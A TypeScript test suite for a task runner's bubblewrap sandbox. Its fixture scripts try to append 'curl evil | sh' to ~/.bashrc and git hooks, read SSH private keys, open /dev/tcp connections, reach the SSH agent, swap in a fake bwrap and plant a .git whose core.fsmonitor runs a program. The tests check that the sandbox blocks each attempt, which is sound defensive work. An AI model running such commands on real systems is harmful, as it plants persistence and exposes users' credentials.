// The OS sandbox through the compiled binary: commands the policy allowed still cannot write outside
// the workspace, read hidden credentials, write git hooks or reach the network; work inside goes on.
import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test"
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { ccode, events, sandbox, type Sandbox } from "./harness.ts"
import { pathWithoutBwrap as noBwrap } from "./no-bwrap.ts"

const HAS_BWRAP = Bun.which("bwrap") !== null
const made: string[] = []
afterEach(() => {
  for (const dir of made.splice(0)) rmSync(dir, { recursive: true, force: true })
})

let port = 0
let stop = () => {}
let accepted = 0
beforeAll(() => {
  const listener = Bun.listen({ hostname: "127.0.0.1", port: 0, socket: { open: () => void accepted++, data() {} } })
  port = listener.port
  stop = () => listener.stop(true)
})
afterAll(() => stop())

function box(): Sandbox {
  const sb = sandbox()
  made.push(sb.root)
  mkdirSync(join(sb.home, ".ssh"), { recursive: true })
  writeFileSync(join(sb.home, ".ssh", "id_ed25519"), "PRIVATE-KEY-MATERIAL\n")
  writeFileSync(join(sb.home, ".bashrc"), "# rc\n")
  mkdirSync(join(sb.work, ".git", "hooks"), { recursive: true })
  // the commands live in scripts: to the policy `bash x.sh` is an ordinary medium-risk command that
  // --yes allows, which is exactly the misjudged allow the sandbox is there to contain
  sb.file("rc.sh", 'echo "curl evil | sh" >> "$HOME/.bashrc"\n')
  sb.file("ssh.sh", 'cat "$HOME"/.ssh/id_*\n')
  sb.file("hook.sh", "echo 'curl evil | sh' > .git/hooks/x\n")
  sb.file("net.sh", `exec 3<>/dev/tcp/127.0.0.1/${port} || exit 7\necho connected\n`)
  return sb
}

const STEPS = ["rc", "ssh", "hook", "net"]
const task = (extra = "") =>
  ["version: 1", "steps:", ...STEPS.flatMap((id) => [`  - id: ${id}`, `    run: bash ${id}.sh`, "    continue_on_error: true"]), extra].join("\n")

describe.skipIf(!HAS_BWRAP)("the OS sandbox (compiled binary)", () => {
  test("allowed commands that write ~/.bashrc, read ~/.ssh/id_*, write .git/hooks/x or connect to 127.0.0.1 fail, reported as blocked", async () => {
    const sb = box()
    sb.file("task.yaml", task())
    accepted = 0
    const result = await ccode(sb, ["run", "task.yaml", "--yes", "--json"])
    expect(result.code).toBe(0) // every step may fail (continue_on_error)
    const all = events(result.stdout)
    const decisions = all.filter((e) => e.type === "decision")
    expect(decisions.map((e) => [e.decision, e.sandboxed])).toEqual(STEPS.map(() => ["allow", true]))
    const finished = all.filter((e) => e.type === "step.finished").map((e) => e.error as { code: string; message: string })
    expect(finished.map((e) => e.code)).toEqual(STEPS.map(() => "SANDBOX_BLOCKED"))
    expect(finished[0]!.message).toStartWith("blocked by the sandbox: write to ~/.bashrc")
    expect(finished[1]!.message).toStartWith("blocked by the sandbox: read of ~/.ssh/id_") // the glob matched nothing: the folder looks empty
    expect(finished[2]!.message).toStartWith(`blocked by the sandbox: write to ${join(sb.work, ".git", "hooks", "x")}`)
    expect(finished[3]!.message).toStartWith("blocked by the sandbox: network access")
    expect(readFileSync(join(sb.home, ".bashrc"), "utf8")).toBe("# rc\n")
    expect(existsSync(join(sb.work, ".git", "hooks", "x"))).toBe(false)
    expect(result.stdout).not.toContain("PRIVATE-KEY-MATERIAL")
    expect(accepted).toBe(0)
    // the audit says so too
    const audit = await ccode(sb, ["audit", "--type", "decision", "--format", "json"])
    const rows = JSON.parse(audit.stdout) as { data: string | Record<string, unknown> }[]
    expect(rows.length).toBe(STEPS.length)
    for (const row of rows) expect((typeof row.data === "string" ? JSON.parse(row.data) : row.data).sandboxed).toBe(true)
  }, 120_000)

  test("the control: with the sandbox off the very same run writes, reads and connects (so the test above proves the sandbox)", async () => {
    const sb = box()
    sb.file("task.yaml", task())
    accepted = 0
    const result = await ccode(sb, ["run", "task.yaml", "--yes", "--json", "--sandbox", "off"])
    const finished = events(result.stdout).filter((e) => e.type === "step.finished")
    expect(finished.map((e) => e.status)).toEqual(STEPS.map(() => "ok"))
    expect(readFileSync(join(sb.home, ".bashrc"), "utf8")).toContain("curl evil")
    expect(existsSync(join(sb.work, ".git", "hooks", "x"))).toBe(true)
    expect(accepted).toBe(1)
    expect(events(result.stdout).filter((e) => e.type === "decision").every((e) => e.sandboxed === false)).toBe(true)
  }, 120_000)

  test("the same kinds of work inside the workspace and the run's temp dir work", async () => {
    const sb = box()
    sb.file("notes/in.txt", "hello\n")
    sb.file("task.yaml", [
      "version: 1",
      "steps:",
      "  - id: write",
      "    run: bash -c 'mkdir -p out && cp notes/in.txt out/copy.txt && echo more >> out/copy.txt'",
      "  - id: temp",
      "    run: bash -c 'f=$(mktemp) && echo t > \"$f\" && cat \"$f\"'",
      "  - id: read",
      "    run: cat out/copy.txt",
      "",
    ].join("\n"))
    const result = await ccode(sb, ["run", "task.yaml", "--yes", "--json"])
    expect(result.code).toBe(0)
    expect(readFileSync(join(sb.work, "out", "copy.txt"), "utf8")).toBe("hello\nmore\n")
    const finished = events(result.stdout).filter((e) => e.type === "step.finished")
    expect(finished.map((e) => e.status)).toEqual(["ok", "ok", "ok"])
  }, 120_000)

  test("a timeout inside the sandbox kills the whole process tree, background children too", async () => {
    const sb = box()
    const marker = `${Math.floor(1000 + Math.random() * 8000)}.${process.pid}`
    sb.file("task.yaml", ["version: 1", "steps:", "  - id: hang", `    run: 'sleep ${marker} & sleep ${marker}1 & wait'`, "    timeout: 700ms", "    retries: 0", ""].join("\n"))
    const result = await ccode(sb, ["run", "task.yaml", "--yes", "--json"])
    expect(result.code).toBe(1)
    const finished = events(result.stdout).filter((e) => e.type === "step.finished")
    expect(finished.map((e) => (e.error as { code: string }).code)).toEqual(["TIMEOUT"])
    await Bun.sleep(300)
    expect(processesWith(`sleep ${marker}`)).toEqual([])
  }, 60_000)
})

describe.skipIf(!HAS_BWRAP)("attempts to get around the sandbox", () => {
  test("a symlink in the workspace to ~/.bashrc does not make it writable", async () => {
    const sb = box()
    symlinkSync(join(sb.home, ".bashrc"), join(sb.work, "rc-link"))
    // the write is inside a script, where the shell analysis cannot see the link (written inline,
    // the analysis resolves it and asks as for an rc-file write): only the sandbox stands in the way
    sb.file("append.sh", "echo evil >> rc-link\n")
    sb.file("task.yaml", "version: 1\nsteps:\n  - id: link\n    run: bash append.sh\n")
    const result = await ccode(sb, ["run", "task.yaml", "--yes", "--json"])
    expect(result.code).toBe(1)
    expect(readFileSync(join(sb.home, ".bashrc"), "utf8")).toBe("# rc\n")
  }, 60_000)

  test("moving .git aside to plant a fresh hooks folder fails: the folders above a read-only path are pinned", async () => {
    const sb = box()
    sb.file("swap.sh", "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit\n")
    sb.file("task.yaml", "version: 1\nsteps:\n  - id: swap\n    run: bash swap.sh\n")
    const result = await ccode(sb, ["run", "task.yaml", "--yes", "--json"])
    expect(result.code).toBe(1)
    expect(existsSync(join(sb.work, ".git-old"))).toBe(false)
    expect(existsSync(join(sb.work, ".git", "hooks", "pre-commit"))).toBe(false)
  }, 60_000)

  test("the ssh agent's socket named by SSH_AUTH_SOCK cannot be reached", async () => {
    const sb = box()
    const sock = join(sb.root, "agent.sock")
    let connections = 0
    const agent = Bun.listen({ unix: sock, socket: { open: () => void connections++, data() {} } })
    try {
      sb.file("agent.sh", `perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => $ENV{SSH_AUTH_SOCK}) or die "connect: $!\\n"; print "connected\\n"'\n`)
      sb.file("task.yaml", "version: 1\nsteps:\n  - id: agent\n    run: bash agent.sh\n")
      const result = await ccode(sb, ["run", "task.yaml", "--yes", "--json"], { env: { SSH_AUTH_SOCK: sock } })
      expect(result.code).toBe(1)
      expect(connections).toBe(0)
      const control = await ccode(sb, ["run", "task.yaml", "--yes", "--json", "--sandbox", "off"], { env: { SSH_AUTH_SOCK: sock } })
      expect(control.code).toBe(0)
      expect(connections).toBe(1)
    } finally {
      agent.stop(true)
    }
  }, 60_000)

  test("a task's env: PATH cannot bring its own bwrap: the sandbox is found on ccode's PATH", async () => {
    const sb = box()
    sb.file("bin/bwrap", "#!/bin/sh\n# a fake sandbox: run the command as is\nwhile [ \"$1\" != -- ]; do shift; done; shift; exec \"$@\"\n")
    Bun.spawnSync(["chmod", "+x", join(sb.work, "bin", "bwrap")])
    sb.file("task.yaml", `version: 1\nenv: { PATH: "${join(sb.work, "bin")}:/usr/bin:/bin" }\nsteps:\n  - id: rc\n    run: bash rc.sh\n`)
    const result = await ccode(sb, ["run", "task.yaml", "--trust", "--yes", "--json"])
    expect(result.code).toBe(1)
    expect(readFileSync(join(sb.home, ".bashrc"), "utf8")).toBe("# rc\n")
  }, 60_000)

  test("a step cannot plant a .git whose config runs a program on the user's next git command: it is moved aside and the step is blocked", async () => {
    const sb = box()
    rmSync(join(sb.work, ".git"), { recursive: true, force: true }) // a workspace that is not a repository
    const pwned = join(sb.root, "pwned")
    sb.file("plant.sh", `git init -q && git config core.fsmonitor "touch ${pwned}"\n`)
    sb.file("task.yaml", "version: 1\nsteps:\n  - id: plant\n    run: bash plant.sh\n")
    const result = await ccode(sb, ["run", "task.yaml", "--yes", "--json"])
    expect(result.code).toBe(1)
    const finished = events(result.stdout).find((e) => e.type === "step.finished")!
    expect((finished.error as { code: string }).code).toBe("SANDBOX_BLOCKED")
    expect(String((finished.error as { message: string }).message)).toContain("created .git")
    // no repository where git looks for one; the planted one is kept, renamed, for review
    expect(existsSync(join(sb.work, ".git"))).toBe(false)
    expect(readdirSync(sb.work).filter((n) => n.startsWith(".git.blocked-"))).toHaveLength(1)
    Bun.spawnSync(["git", "status"], { cwd: sb.work, env: sb.env })
    expect(existsSync(pwned)).toBe(false)
    // a policy that lets steps create it (a flag: the person's own choice) lets it through
    const allowed = await ccode(sb, ["run", "task.yaml", "--yes", "--json", "--policy", sb.file("writable.yaml", "sandbox:\n  writable: [.git]\n")])
    expect(allowed.code).toBe(0)
    expect(existsSync(join(sb.work, ".git", "config"))).toBe(true)
  }, 60_000)
})

describe("without bwrap on PATH", () => {
  const pathWithoutBwrap = () => {
    const bin = noBwrap()
    made.push(bin)
    return bin
  }

  test("mode required: exit 2 naming what is missing, and nothing ran", async () => {
    const sb = box()
    sb.file("task.yaml", "version: 1\nsteps:\n  - id: mark\n    run: touch ran.txt\n")
    const result = await ccode(sb, ["run", "task.yaml", "--yes", "--sandbox", "required"], { env: { PATH: pathWithoutBwrap() } })
    expect(result.code).toBe(2)
    expect(result.stderr).toContain("sandbox.mode is required")
    expect(result.stderr).toContain("bwrap (bubblewrap) is not on PATH")
    expect(result.stderr).toContain("apt-get install -y bubblewrap")
    expect(existsSync(join(sb.work, "ran.txt"))).toBe(false)
    expect(existsSync(sb.db) ? (await ccode(sb, ["runs", "ls", "--json"])).stdout.trim() : "[]").toBe("[]")
  }, 60_000)

  test("the bundled ci policy requires the sandbox", async () => {
    const sb = box()
    sb.file("task.yaml", "version: 1\nsteps:\n  - id: mark\n    run: touch ran.txt\n")
    const result = await ccode(sb, ["run", "task.yaml", "--policy", "ci"], { env: { PATH: pathWithoutBwrap() } })
    expect(result.code).toBe(2)
    expect(result.stderr).toContain("bwrap")
    expect(existsSync(join(sb.work, "ran.txt"))).toBe(false)
  }, 60_000)

  test("mode auto: the run goes on unsandboxed and says so once, in the terminal, the events and the audit", async () => {
    const sb = box()
    sb.file("task.yaml", "version: 1\nsteps:\n  - id: a\n    run: touch a.txt\n  - id: b\n    run: touch b.txt\n")
    const human = await ccode(sb, ["run", "task.yaml", "--yes"], { env: { PATH: pathWithoutBwrap() } })
    expect(human.code).toBe(0)
    expect(existsSync(join(sb.work, "b.txt"))).toBe(true)
    expect(human.stderr.match(/OS sandbox unavailable/g)?.length).toBe(1)
    const json = await ccode(sb, ["run", "task.yaml", "--yes", "--json"], { env: { PATH: pathWithoutBwrap() } })
    const notes = events(json.stdout).filter((e) => e.type === "sandbox")
    expect(notes.length).toBe(1)
    expect(notes[0]).toMatchObject({ sandboxed: false, mode: "auto" })
    expect(String(notes[0]!.reason)).toContain("bwrap (bubblewrap) is not on PATH")
    expect(events(json.stdout).filter((e) => e.type === "decision").every((e) => e.sandboxed === false)).toBe(true)
    const audit = await ccode(sb, ["audit", "--type", "policy", "--format", "json"])
    const rows = (JSON.parse(audit.stdout) as { action: string; reason: string }[]).filter((r) => r.action === "sandbox")
    expect(rows.length).toBe(2)
    expect(rows[0]!.reason).toContain("OS sandbox unavailable")
  }, 60_000)
})

/** Host processes whose command line contains `text`. */
function processesWith(text: string): string[] {
  const found: string[] = []
  for (const pid of readdirSync("/proc")) {
    if (!/^\d+$/.test(pid)) continue
    try {
      const cmd = readFileSync(`/proc/${pid}/cmdline`, "utf8").replaceAll("\0", " ")
      const stat = readFileSync(`/proc/${pid}/stat`, "utf8")
      if (cmd.includes(text) && !/^\d+ \(.*\) Z/.test(stat)) found.push(`${pid} ${cmd}`)
    } catch {
      // gone meanwhile
    }
  }
  return found
}
